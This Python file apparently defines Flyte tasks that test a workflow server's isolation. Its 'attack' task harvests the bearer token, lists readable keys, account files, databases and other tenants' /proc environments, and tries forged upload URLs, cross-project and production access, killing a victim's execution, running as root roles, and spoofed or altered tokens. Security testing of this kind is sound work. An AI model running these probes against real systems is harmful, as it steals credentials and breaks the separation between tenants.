"""A task that does what it should, and then all that it should not: with the token that it was given, and without."""

import json
import os
import subprocess
import time
import urllib.error
import urllib.request
from datetime import timedelta
from pathlib import Path

import grpc
import yaml
from flyteidl.admin import common_pb2, execution_pb2, project_pb2, task_pb2
from flyteidl.core import identifier_pb2
from flyteidl.service import admin_pb2_grpc, dataproxy_pb2, dataproxy_pb2_grpc, identity_pb2, identity_pb2_grpc
from flytekit import task, workflow
from flytekit.configuration import Config
from flytekit.remote import FlyteRemote


@task
def small(x: int) -> int:
    return x + 1


@task
def hold(gate: str) -> int:
    print("holding", flush=True)
    while not Path(gate).exists():
        time.sleep(0.02)
    return 1


def found_on_the_machine(data: Path, other: str) -> dict[str, list[str]]:
    """List what can be read of the server's folder and of others' processes."""

    def readable(folder: Path) -> list[str]:
        return [str(path) for path in folder.rglob("*") if path.is_file() and os.access(path, os.R_OK)]

    def environments() -> list[str]:
        found = []
        for path in Path("/proc").glob("[0-9]*/environ"):
            try:
                if f"PROJECT={other}" in path.read_text():
                    found.append(str(path))
            except OSError:
                continue
        return found

    return {
        "keys": readable(data / "keys"),
        "accounts": readable(data / "clients"),
        "database": [str(path) for path in data.glob("*.db*")],
        "others' artifacts": readable(data / "artifacts" / other),
        "others' attempts": readable(data / "work" / other),
        "others' environments": environments(),
        "own artifacts": readable(data / "artifacts"),
    }


@task
def attack(project: str, other: str, victim: str) -> str:
    remote = FlyteRemote(Config.auto(), default_project=project, default_domain="development")
    own = os.environ["FLYTE_INTERNAL_EXECUTION_ID"]
    version = os.environ["FLYTE_INTERNAL_TASK_VERSION"]
    child = remote.execute(remote.fetch_task(name="attack.small", version=version), inputs={"x": 1})
    child = remote.wait(child, timeout=timedelta(seconds=60), poll_interval=timedelta(seconds=0.2))

    admin = yaml.safe_load(Path(os.environ["FLYTECTL_CONFIG"]).read_text())["admin"]
    token = subprocess.run(admin["command"], capture_output=True, text=True, check=True).stdout
    channel = grpc.insecure_channel(admin["endpoint"].removeprefix("dns:///"), [("grpc.enable_http_proxy", 0)])
    flyte = admin_pb2_grpc.AdminServiceStub(channel)
    proxy = dataproxy_pb2_grpc.DataProxyServiceStub(channel)
    bearer = [("authorization", f"Bearer {token}"), ("flyte-user", "root"), ("x-user-subject", "root")]

    def tried(call, request, metadata=bearer) -> str:
        try:
            call(request, metadata=metadata, timeout=20)
        except grpc.RpcError as error:
            return f"{error.code().name} {error.details()}"
        return "OK"

    def launch(project: str, domain: str) -> execution_pb2.ExecutionCreateRequest:
        request = execution_pb2.ExecutionCreateRequest(project=project, domain=domain)
        request.spec.launch_plan.CopyFrom(
            identifier_pb2.Identifier(
                resource_type=identifier_pb2.TASK, project=project, domain=domain, name="attack.small", version=version
            )
        )
        request.inputs.literals["x"].scalar.primitive.integer = 1
        return request

    def listing(project: str, domain: str) -> common_pb2.ResourceListRequest:
        return common_pb2.ResourceListRequest(
            id=common_pb2.NamedEntityIdentifier(project=project, domain=domain), limit=5
        )

    def registration(domain: str) -> task_pb2.TaskCreateRequest:
        request = task_pb2.TaskCreateRequest()
        request.id.CopyFrom(launch(project, domain).spec.launch_plan)
        return request

    def as_another(**names: str) -> execution_pb2.ExecutionCreateRequest:
        request = launch(project, "development")
        for name, value in names.items():
            setattr(request.spec.security_context.run_as, name, value)
        return request

    def download(**names: str) -> dataproxy_pb2.CreateDownloadLocationRequest:
        return dataproxy_pb2.CreateDownloadLocationRequest(**names)

    def put(url: str) -> int:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            return int(opener.open(urllib.request.Request(url, b"x", method="PUT"), timeout=20).status)
        except urllib.error.HTTPError as error:
            return error.code

    upload = proxy.CreateUploadLocation(
        dataproxy_pb2.CreateUploadLocationRequest(
            project=project, domain="development", filename="mine", filename_root="mine"
        ),
        metadata=bearer,
        timeout=20,
    )
    url = upload.signed_url
    victims = identifier_pb2.WorkflowExecutionIdentifier(project=other, domain="development", name=victim)
    user = identity_pb2_grpc.IdentityServiceStub(channel).UserInfo(identity_pb2.UserInfoRequest(), metadata=bearer)
    return json.dumps(
        {
            "own": own,
            "subject": user.subject,
            "child": child.id.name,
            "child output": child.outputs["o0"],
            "token": token,
            "machine": found_on_the_machine(Path(upload.native_url.partition("/artifacts/")[0]), other),
            "uploads": [
                put(url),
                put(url.replace("/development/", "/production/")),
                put(url.replace(project, other)),
                put(url.replace("signature=", "signature=0")),
                put(url.partition("?")[0]),
            ],
            "tried": {
                "list here": tried(flyte.ListExecutions, listing(project, "development")),
                "list in production": tried(flyte.ListExecutions, listing(project, "production")),
                "list in another project": tried(flyte.ListExecutions, listing(other, "development")),
                "read a victim": tried(flyte.GetExecution, execution_pb2.WorkflowExecutionGetRequest(id=victims)),
                "end a victim": tried(
                    flyte.TerminateExecution, execution_pb2.ExecutionTerminateRequest(id=victims, cause="me")
                ),
                "launch in production": tried(flyte.CreateExecution, launch(project, "production")),
                "launch in another project": tried(flyte.CreateExecution, launch(other, "development")),
                "register into production": tried(flyte.CreateTask, registration("production")),
                "register here": tried(flyte.CreateTask, registration("development")),
                "create a project": tried(
                    flyte.RegisterProject, project_pb2.ProjectRegisterRequest(project=project_pb2.Project(id="mine"))
                ),
                "run as a service account": tried(flyte.CreateExecution, as_another(k8s_service_account="root")),
                "run as a role": tried(flyte.CreateExecution, as_another(iam_role="arn:aws:iam::1:role/root")),
                "read a victim's artifacts": tried(
                    proxy.CreateDownloadLocation,
                    download(native_url=upload.native_url.replace(f"/{project}/", f"/{other}/")),
                ),
                "read artifacts of production": tried(
                    proxy.CreateDownloadLocation,
                    download(native_url=upload.native_url.replace("/development/", "/production/")),
                ),
                "without a token": tried(flyte.ListExecutions, listing(project, "development"), ()),
                "with an altered token": tried(
                    flyte.ListExecutions,
                    listing(project, "development"),
                    [("authorization", f"Bearer {token[:-4]}AAAA")],
                ),
            },
        }
    )


@workflow
def attack_wf(target: str, other: str, victim: str) -> str:
    return attack(project=target, other=other, victim=victim)


@workflow
def hold_wf(gate: str) -> int:
    return hold(gate=gate)


@workflow
def small_wf(x: int) -> int:
    return small(x=x)
